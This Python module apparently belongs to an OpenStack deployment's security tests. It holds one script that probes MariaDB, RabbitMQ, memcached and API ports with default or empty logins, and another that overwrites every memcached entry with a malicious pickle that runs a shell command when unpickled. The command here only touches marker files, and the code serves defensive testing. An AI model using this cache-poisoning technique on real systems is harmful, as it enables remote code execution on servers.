"""What somebody tries who has no password: programs for a host, with what they print.

They run with OpenStack's Python, which has the clients.
"""

from __future__ import annotations

import shlex

from tests.real.conftest import Cli

PYTHON = "/opt/openstack/bin/python"

# Without any login, or with those that servers are known for; prints a line for each that
# let somebody in.
KNOCK = """
import socket, sys, urllib.error, urllib.request
import amqp, pymysql
master, controller = sys.argv[1:]

for user in ("root", "", "nova", "mysql"):
    try:
        pymysql.connect(host=master, user=user, password="")
        print("MariaDB lets in", repr(user))
    except pymysql.err.OperationalError as error:
        assert error.args[0] in (1045, 1130, 1698), error
for user, password in (("guest", "guest"), ("openstack", "openstack"), ("", "")):
    try:
        amqp.Connection(host=master + ":5672", userid=user, password=password).connect()
        print("RabbitMQ lets in", repr(user))
    except (amqp.AccessRefused, OSError):
        pass
for words in (b"stats", b"version", b"get a", b"set a 0 0 3\\r\\nx y", b"flush_all"):
    with socket.create_connection((master, 11211), 5) as connection:
        connection.sendall(words + b"\\r\\n")
        said = connection.recv(100)
        if not said.startswith(b"CLIENT_ERROR") and said:
            print("memcached answers", words, said)
for port in (4369, 25672):
    try:
        socket.create_connection((master, port), 5).close()
        print("Erlang lets in at", port)
    except ConnectionRefusedError:
        pass
apis = [":5000/v3/users", ":9292/v2/images", ":8778/resource_providers", ":9696/v2.0/networks"]
for at in [*(master + api for api in apis), controller + ":8774/v2.1/servers"]:
    try:
        urllib.request.urlopen("http://" + at, timeout=20)
        print("HTTP lets in at", at)
    except urllib.error.HTTPError as error:
        if error.code != 401:
            print("HTTP answers", error.code, "at", at)
print("knocked")
"""

# Put into every entry of memcached's a pickle that runs a command; with the login, where one is
# asked for.  Prints how many entries there were.
OVERWRITE = """
import json, os, pickle, socket, sys, urllib.parse

class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled /dev/shm/unpickled",)

attack = pickle.dumps(Command(), 0)
words = b"a stranger's"
if os.path.exists("/etc/nova/memcached.json"):
    login = json.load(open("/etc/nova/memcached.json"))
    words = (login["username"] + " " + login["password"]).encode()
with socket.create_connection((sys.argv[1], 11211), 10) as connection:
    lines = connection.makefile("rwb")
    lines.write(b"set login 0 0 %d\\r\\n%s\\r\\n" % (len(words), words))
    lines.flush()
    assert lines.readline() == b"STORED\\r\\n"
    lines.write(b"lru_crawler metadump all\\r\\n")
    lines.flush()
    keys = []
    while not (line := lines.readline()).startswith((b"END", b"BUSY", b"ERROR")):
        keys.append(urllib.parse.unquote_to_bytes(line.split()[0][4:]))
    for key in keys:
        # Flags of 1 are a pickle, for both of OpenStack's clients.
        lines.write(b"set %s 1 0 %d\\r\\n%s\\r\\n" % (key, len(attack), attack))
        lines.flush()
        assert lines.readline() == b"STORED\\r\\n"
print(len(keys))
"""


def run(cli: Cli, host: str, program: str, *arguments: str) -> str:
    """Run a program on a host; returns what it printed."""
    command = shlex.join([PYTHON, "-c", program, *arguments])
    return cli.run("ssh", host, command).stdout
